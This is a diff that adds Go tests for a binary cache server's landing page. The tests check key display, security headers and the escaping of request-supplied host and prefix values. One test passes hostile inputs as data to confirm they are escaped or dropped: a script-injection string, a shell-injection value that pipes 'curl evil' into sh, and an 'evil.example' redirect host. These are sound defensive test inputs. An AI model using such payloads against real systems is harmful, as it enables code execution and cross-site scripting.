@@ -1,0 +1,67 @@
+package cache
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+
+	"narwharf/signing"
+)
+
+func TestLanding(t *testing.T) {
+	key := newKey(t, "cache.example.org-1")
+	w := newWorld(t, func(s *setup) {
+		s.keys = (&keyring{keys: []signing.SecretKey{key}}).load
+		s.Version = "1.0<b>"
+	})
+	w.putAll(newUpload(t, "p", "none"))
+	a := w.must(w.get("/"), 200)
+	for _, want := range []string{"1 store paths", strings.ReplaceAll(key.Public().String(), "+", "&#43;"), w.http.URL + "?compression=zstd", "1.0&lt;b&gt;"} {
+		if !strings.Contains(a.body, want) {
+			t.Errorf("no %q in\n%s", want, a.body)
+		}
+	}
+	if csp := a.header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || a.header.Get("Cache-Control") != "no-store" {
+		t.Errorf("headers %v", a.header)
+	}
+	if strings.Contains(a.body, key.String()) {
+		t.Error("the page shows the secret key")
+	}
+}
+
+func TestLandingWithoutKeys(t *testing.T) {
+	w := newWorld(t)
+	if a := w.must(w.get("/"), 200); !strings.Contains(a.body, "no signing key") {
+		t.Error(a.body)
+	}
+}
+
+// What the request says of its own address is escaped, and what cannot be part
+// of one is left out: people paste these lines.
+func TestLandingEscapes(t *testing.T) {
+	w := newWorld(t)
+	page := func(host string, header ...string) string {
+		t.Helper()
+		req, err := http.NewRequest(http.MethodGet, w.http.URL+"/", http.NoBody)
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Host = host
+		for i := 0; i < len(header); i += 2 {
+			req.Header.Set(header[i], header[i+1])
+		}
+		return w.must(w.send(req), 200).body
+	}
+	if got := page("cache.lan", "X-Forwarded-Proto", "https", "X-Forwarded-Prefix", "/nix/cache/"); !strings.Contains(got, "https://cache.lan/nix/cache?compression") {
+		t.Error(got)
+	}
+	for _, prefix := range []string{"/<script>alert(1)</script>", "/'; curl evil | sh; '", "/a b", "//evil.example", "x", "/..\n"} {
+		got := page("cache.lan", "X-Forwarded-Prefix", strings.TrimSpace(prefix))
+		if prefix = strings.TrimSpace(prefix); prefix != "/.." && (strings.Contains(got, "cache.lan/") || strings.Contains(got, "<script")) {
+			t.Errorf("%q shows up in\n%s", prefix, got)
+		}
+	}
+	if got := page("evil'\"&"); strings.Contains(got, `evil'"&`) {
+		t.Error(got)
+	}
+}
